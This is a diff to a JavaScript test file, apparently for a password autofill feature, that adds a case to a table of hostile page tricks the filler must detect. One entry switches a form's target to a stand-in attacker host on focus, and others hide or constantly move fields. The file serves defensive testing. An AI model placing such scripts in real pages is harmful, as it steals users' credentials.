@@ -73,6 +73,7 @@ describe('filling', () => {
     'a field that is covered when it gets the focus': ['field_hidden', 'user.onfocus = () => document.body.insertAdjacentHTML("beforeend", "<b style=\'position:fixed;inset:0\'>!</b>")'],
     'a form that changes its target when a field gets the focus': ['target_changed', 'user.onfocus = () => { f.action = "https://evil.test/" }'],
     'a field that never rests': ['field_hidden', 'f.style.position = "relative"; let at = 0; globalThis.beforeFill = () => { at += 17; f.style.left = `${at % 400}px` }; setInterval(beforeFill, 1)'],
+    'a field that never rests, and is filled at once': ['field_hidden', 'f.style.position = "relative"; let at = 0; setInterval(() => { at += 17; f.style.left = `${at % 400}px` }, 4)'],
     'a field that stays read-only': ['not_kept', 'password.readOnly = true'],
   };
   for (const [what, [result, script]] of Object.entries(tricks)) {
